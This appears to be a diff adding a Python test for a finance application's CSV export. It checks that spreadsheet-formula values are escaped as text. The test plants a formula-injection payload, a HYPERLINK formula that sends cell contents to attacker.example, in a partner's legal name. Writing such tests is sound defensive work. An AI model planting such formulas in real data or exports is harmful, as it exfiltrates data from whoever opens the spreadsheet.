@@ -2,6 +2,9 @@
 bank details; disclosure releases; who may see and do what."""
 from __future__ import annotations
 
+import csv
+import io
+import re
 from datetime import date, timedelta
 from decimal import Decimal
 
@@ -254,3 +257,15 @@ def test_finance_records_an_insurer_rate_from_a_date_and_what_was_posted_keeps_i
     admin_token = csrf_from(admin.get("/finance/payout-runs").get_data(as_text=True))
     assert admin.post("/finance/insurer-rates", data={**form, "csrf_token": admin_token, "rate": "20"}
                       ).status_code == 403
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_come_out_as_text(session, books, make_user, login):
+    books["paid"].legal_name = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for your payout")'
+    session.commit()
+    text = login(make_user(Role.finance)).get("/finance/partners?format=csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text)))
+    names = {row[0] for row in rows[1:]}
+    assert "'" + books["paid"].legal_name in names
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    # amounts stay numbers, negative ones included
+    assert all(re.fullmatch(r"-?\d+\.\d{2}", row[2]) for row in rows[1:])
